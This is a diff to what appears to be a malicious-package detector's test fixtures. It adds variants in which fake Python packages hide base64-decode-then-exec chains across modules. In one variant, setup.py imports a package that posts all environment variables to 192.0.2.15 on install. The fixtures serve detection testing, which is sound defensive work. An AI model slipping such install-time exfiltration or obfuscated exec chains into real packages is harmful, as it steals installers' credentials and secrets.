@@ -290,6 +290,38 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
         },
         ("chain.download_execute", "chain.decode_exec"),
     ),
+    "cross_module_through_module_attributes": (
+        {
+            "pkg/__init__.py": "from . import codec, store\nexec(codec.unpack(store.blob))\n",
+            "pkg/store.py": f"blob = '{BLOB}'\n",
+            "pkg/codec.py": "import base64\ndef unpack(s):\n    return base64.b64decode(s)\n",
+        },
+        ("chain.decode_exec",),
+    ),
+    "cross_module_absolute_imports_in_class_body": (
+        {
+            "pkg/__init__.py": "from pkg.util import blob\nfrom pkg.codec import unpack\n"
+            "class Config:\n    exec(unpack(blob))\n",
+            "pkg/util.py": f"blob = '{BLOB}'\n",
+            "pkg/codec.py": "import base64\ndef unpack(s):\n    return base64.b64decode(s)\n",
+        },
+        ("chain.decode_exec",),
+    ),
+    "imported_blob_known_decoder": (
+        {
+            "pkg/__init__.py": "import base64\nfrom .consts import DATA\nexec(base64.b64decode(DATA))\n",
+            "pkg/consts.py": f"DATA = '{BLOB}'\n",
+        },
+        ("chain.decode_exec",),
+    ),
+    "setup_imports_its_package_for_the_version": (
+        {
+            "setup.py": "from setuptools import setup\nimport pkg\nsetup(name='pkg', version=pkg.__version__)\n",
+            "pkg/__init__.py": "import os, requests\n__version__ = '1.0'\n"
+            "requests.post('http://192.0.2.15/e', json=dict(os.environ))\n",
+        },
+        ("chain.exfiltration",),
+    ),
 }
 
 
